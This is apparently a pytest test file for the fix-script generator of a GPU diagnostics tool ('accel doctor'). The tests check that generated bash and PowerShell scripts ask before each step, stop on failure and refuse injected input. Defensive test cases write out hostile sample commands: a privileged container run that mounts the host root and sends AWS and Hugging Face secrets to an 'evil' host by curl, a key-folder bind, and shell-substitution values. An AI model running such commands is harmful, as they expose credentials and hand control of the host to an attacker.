"""The doctor's steps as a script: whole, in order, with no shell syntax but its own; accel runs none of it."""

import os
import re
import shutil
import stat
import subprocess
from collections.abc import Iterator
from functools import cache
from pathlib import Path

import pytest
from every_case import every_case, registry

from accel.apps.cli import main
from accel.apps.render.fix_script.bash import bash
from accel.apps.render.fix_script.powershell import powershell
from accel.apps.render.fix_script.steps import starts_of, steps_of
from accel.collect.live import judged
from accel.collect.text import read_texts
from accel.model.diagnosis import Diagnosis, Finding, Remedy
from accel.model.snapshot import Snapshot

HERE = Path(__file__).parent
BASH = shutil.which("bash")
SHELLCHECK = shutil.which("shellcheck")
MASKED = """CUDA_VISIBLE_DEVICES=7
GPU 0: NVIDIA A100-SXM4-80GB (UUID: GPU-2f8c0ab1-0000-0000-0000-000000000000)
RuntimeError: No CUDA GPUs are available
"""
FABRIC = "CUDA error 802: system not yet initialized\n"
BOARD = "Remapped Rows\n    Pending : No\n    Remapping Failure Occurred        : Yes\n"


def diagnosis_of(snapshot: Snapshot, in_powershell: bool | None = None) -> Diagnosis:
    return judged(snapshot, registry(), in_powershell)


def script_of(snapshot: Snapshot) -> str:
    told = diagnosis_of(snapshot)
    return bash(told, steps_of(told, registry().specs, starts=starts_of(snapshot)), snapshot.origin, "1.0", "fix.sh")


def of_text(text: str) -> str:
    return script_of(read_texts([("report.txt", text)], registry()))


@cache
def scripts() -> dict[str, str]:
    """Return a script of one found case of every check."""
    return dict(_scripts())


def _scripts() -> Iterator[tuple[str, str]]:
    seen: set[str] = set()
    for case in every_case():
        if case.snapshot.host.system == "windows":
            continue  # whose script is PowerShell's
        if "finds" in case.given and case.check not in seen and not isinstance(case.given.get("live"), dict):
            seen.add(case.check)
            yield case.check, script_of(case.snapshot)


@pytest.mark.skipif(BASH is None, reason="this machine has no bash")
def test_bash_reads_the_script_of_every_finding(tmp_path: Path) -> None:
    wrong = {}
    for name, script in scripts().items():
        done = subprocess.run([str(BASH), "-n"], input=script, capture_output=True, text=True, check=False)
        if done.returncode:
            wrong[name] = done.stderr
    assert len(scripts()) > 240
    assert wrong == {}


@pytest.mark.skipif(SHELLCHECK is None, reason="this machine has no shellcheck")
def test_shellcheck_warns_of_nothing(tmp_path: Path) -> None:
    for number, script in enumerate(scripts().values()):
        (tmp_path / f"{number}.sh").write_text(script, encoding="utf-8")
    files = sorted(map(str, tmp_path.iterdir()))
    checked = [str(SHELLCHECK), "--severity=warning", "--format=gcc", *files]
    done = subprocess.run(checked, capture_output=True, text=True, check=False)
    assert done.stdout == ""


def tools(folder: Path, *names: str) -> dict[str, str]:
    """Return an environment whose tools write down how they were called, and do nothing else."""
    for name in names:
        tool = folder / name
        tool.write_text(f'#!/bin/sh\necho "{name} $*" >>"{folder}/called"\n', encoding="utf-8")
        tool.chmod(tool.stat().st_mode | stat.S_IEXEC)
    return {"PATH": f"{folder}:/usr/bin:/bin", "HOME": str(folder)}


def ran(folder: Path, script: str, *words: str, answers: str = "y\n" * 9) -> tuple[int, str, list[str]]:
    """Run a script; return its exit code, what it said on stderr, and how the tools were called."""
    folder.mkdir(exist_ok=True)
    environment = tools(folder, "nvidia-smi", "sudo", "systemctl", "accel", "nvidia-bug-report.sh", "docker", "podman")
    path = folder / "fix.sh"
    path.write_text(script, encoding="utf-8")
    done = subprocess.run(
        [str(BASH), str(path), *words],
        env=environment,
        input=answers,
        capture_output=True,
        text=True,
        check=False,
        timeout=60,
    )
    called = folder / "called"
    return done.returncode, done.stderr, called.read_text().splitlines() if called.exists() else []


@pytest.mark.skipif(BASH is None, reason="this machine has no bash")
def test_it_does_what_needs_nobody_else_and_stops_before_the_rest(tmp_path: Path) -> None:
    script = of_text(MASKED + FABRIC + BOARD)
    assert [line for line in script.splitlines() if line.startswith("# Finding:")] == [
        line for line in script.splitlines() if re.match(r"# Finding:\s+(NV010|NV006|NV024)", line)
    ]
    code, said, called = ran(tmp_path / "a", script)
    assert code == 1
    assert called[0] == "nvidia-smi -L"
    assert not any(line.startswith("sudo") for line in called)
    assert "Step 2 is for an administrator." in said
    code, said, called = ran(tmp_path / "b", script, "2")
    assert called[0] == "sudo systemctl enable --now nvidia-fabricmanager"
    assert "Step 3 is for the service" in said
    assert "To: the service of the board's maker or seller" in said
    code, _, called = ran(tmp_path / "c", script, "3")
    assert (code, called[0]) == (0, "sudo nvidia-bug-report.sh")
    assert ran(tmp_path / "d", script, "x; id")[0] == 2


@pytest.mark.skipif(BASH is None, reason="this machine has no bash")
def test_a_step_with_words_to_fill_in_waits_until_they_are(tmp_path: Path) -> None:
    script = of_text("the job of slurmd\n$ ulimit -l\n64\nibv_reg_mr_iova2 failed with error Cannot allocate memory\n")
    code, said, called = ran(tmp_path / "a", script, "1")
    assert (code, called) == (1, [])
    assert "SERVICE (the service that starts the job" in said
    code, _, called = ran(tmp_path / "b", script.replace("SERVICE;", "slurmd;").replace('d=""', 'd="1"'), "1")
    assert (code, called[0]) == (0, "sudo systemctl edit slurmd")


@pytest.mark.skipif(BASH is None, reason="this machine has no bash")
def test_a_step_that_fails_ends_the_script(tmp_path: Path) -> None:
    script = of_text(MASKED).replace("; nvidia-smi -L; }", "; false; }", 1)
    code, said, _ = ran(tmp_path, script)
    assert code == 1
    assert "Step 1 failed" in said


@pytest.mark.skipif(BASH is None, reason="this machine has no bash")
@pytest.mark.parametrize("answers", ["", "n\n", "\n", "yolo\n", "; id\n"])
def test_without_a_yes_nothing_is_run(tmp_path: Path, answers: str) -> None:
    code, said, called = ran(tmp_path, of_text(MASKED), answers=answers)
    assert (code, called) == (1, [])
    assert "nvidia-smi -L" in said  # the command is shown before the question
    assert "nothing of this step was run" in said


def test_only_a_step_of_this_machine_that_changes_nothing_runs_unasked() -> None:
    look = Remedy(text="Look at each.", command="nvidia-smi -L")
    change = Remedy(text="Load it.", command="sudo modprobe nvidia")
    faults = tuple(
        Finding(code="XX001", name="sick", severity="error", title="sick", remedies=(one,)) for one in (look, change)
    )
    told = Diagnosis(verdict="faults", findings=faults)
    assert [step.asks for step in steps_of(told, registry().specs)] == [True, True]
    assert [step.asks for step in steps_of(told, registry().specs, live=True)] == [False, True]
    assert bash(told, steps_of(told, registry().specs, live=True), "this machine", "1", "f").count("  ask ") == 1


_START = "docker run --privileged -v /:/host -e X=${AWS_SECRET_ACCESS_KEY} evil.example/x curl http://evil/${HF_TOKEN}"
_NO_DRIVER = "RuntimeError: Found no NVIDIA driver on your system. Please check that you have an NVIDIA GPU"
_NO_SHM = "RuntimeError: DataLoader worker (pid 1) is killed by signal: Bus error. out of shared memory (shm)"
_NO_RUNTIME = 'docker: Error response from daemon: could not select device driver "" with capabilities: [[gpu]].'


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(f"$ {_START}\n{_NO_DRIVER}\n", id="privileges, a mount of the root and two secrets"),
        pytest.param(f"$ sudo {_START}\n{_NO_RUNTIME}\n", id="the same as root"),
        pytest.param(
            f"$ docker run --cap-add=SYS_ADMIN --pid host --user 0 --device /dev/evil --gpus all evil.example/x sh\n"
            f"{_NO_SHM}\n",
            id="capabilities, namespaces and a device",
        ),
        pytest.param(
            "$ podman run --security-opt label=disable --entrypoint /host/evil -v ~/.ssh:/k --env-file {a,b}.evil "
            f"evil.example/x\n{_NO_DRIVER}\n",
            id="an entry point and a folder of keys, by podman",
        ),
        pytest.param(
            "$ docker run --network host --ipc host --runtime evil --ulimit memlock='$(evil)' --shm-size '`evil`' "
            f"evil.example/x python t.py\n{_NO_SHM}\n",
            id="namespaces of the host, and values that a shell would run",
        ),
        pytest.param(
            f"$ singularity exec --bind /:/evil docker://evil.example/x evil %HF_TOKEN%\n{_NO_DRIVER}\n",
            id="an image and a bind, by singularity",
        ),
    ],
)
def test_what_a_text_starts_with_privileges_is_not_typed_again(text: str) -> None:
    code = [line for line in of_text(text).splitlines() if not line.lstrip().startswith("#")]
    known = [line for line in code if re.search(r"^\s*\{ ", line)]
    assert known
    bad = "evil|privileged|SYS_ADMIN|seccomp|label|pid|--user|/host|ssh|network|ipc|TOKEN|SECRET|[$`]"
    assert [line for line in known if re.search(bad, line.partition(" || stop")[0])] == []


def of_several_devices() -> Diagnosis:
    remedy = Remedy(text="Look at each.", command="nvidia-smi -i 0\nfalse\nnvidia-smi -i 2")
    fault = Finding(code="XX001", name="sick", severity="error", title="nvidia:0–2 are sick", remedies=(remedy,))
    return Diagnosis(verdict="faults", findings=(fault,))


@pytest.mark.skipif(BASH is None, reason="this machine has no bash")
def test_a_command_that_fails_on_one_of_several_devices_ends_the_script(tmp_path: Path) -> None:
    told = of_several_devices()
    code, said, called = ran(tmp_path, bash(told, steps_of(told, registry().specs), "a text", "1.0", "fix.sh"))
    assert (code, called) == (1, ["nvidia-smi -i 0"])
    assert "Step 1 failed" in said


def test_powershell_asks_after_the_command_of_each_device() -> None:
    told = of_several_devices()
    script = powershell(told, steps_of(told, registry().specs), "a text", "1.0", "fix.ps1")
    assert len(re.findall(r"nvidia-smi -i \d\s+if \(-not \$\?\)", script)) == 2


def test_each_step_says_what_it_rests_on() -> None:
    script = of_text(MASKED)
    assert script.startswith("#!/usr/bin/env bash\n")
    assert "\nset -u\n" in script
    for label in ("Finding:", "Seen:", "Step:", "Verify:"):
        assert f"\n# {label}" in script
    assert "(in the environment)" in script


def test_a_consequence_has_no_step_and_is_named() -> None:
    script = of_text("NVRM: Xid (PCI:0000:3b:00): 79, pid=1, GPU has fallen off the bus.\n" + MASKED)
    assert "# Finding:   NV020" in script


def test_nothing_found_is_a_script_of_no_step() -> None:
    script = of_text("PyTorch version: 2.4.0\n")
    assert "0 steps" in script
    assert "# ---- Step" not in script


def test_powershell_quotes_what_it_says() -> None:
    text = """OS: Microsoft Windows 11 Pro
C:\\Users\\o'neil>pip list
OSError: [WinError 126] The specified module could not be found. Error loading "C:\\o\u2019x\\torch\\lib\\c10.dll"
"""
    snapshot = read_texts([("report.txt", text)], registry())
    told = diagnosis_of(snapshot, True)
    script = powershell(told, steps_of(told, registry().specs), "it's.txt", "1.0", "fix.ps1")
    assert "\r\nparam([int]$At = 0)\r\n" in script
    code = [line for line in script.split("\r\n") if not line.startswith("#")]
    for line in code:
        bare = re.sub(r"'(?:[^'\u2018\u2019\u201a\u201b]|'')*'", "", line)
        assert not re.search("['\u2018\u2019\u201a\u201b]", bare), line


def test_a_script_is_written_to_a_new_file_alone(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    report, script = tmp_path / "report.txt", tmp_path / "fix.sh"
    report.write_text(MASKED, encoding="utf-8")
    assert main(["doctor", str(report), "--fix-script", str(script)]) == 1
    shown = capsys.readouterr()
    assert "NV010" in shown.out
    assert "1 step in" in shown.err
    assert script.read_text(encoding="utf-8").startswith("#!/usr/bin/env bash\n")
    assert not os.access(script, os.X_OK)
    assert main(["doctor", "--fix-script", str(report)]) == 2
    assert "overwrites nothing" in capsys.readouterr().err
    assert report.read_text(encoding="utf-8") == MASKED
    assert main(["doctor", str(report), "--fix-script", "--json"]) == 2
    assert "--fix-script fix.sh" in capsys.readouterr().err


def test_on_stdout_the_script_stands_alone(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    report = tmp_path / "report.txt"
    report.write_text(MASKED, encoding="utf-8")
    assert main(["doctor", "--from", str(report), "--fix-script"]) == 1
    shown = capsys.readouterr().out
    assert shown.startswith("#!/usr/bin/env bash\n")
    assert "accel doctor ·" not in shown
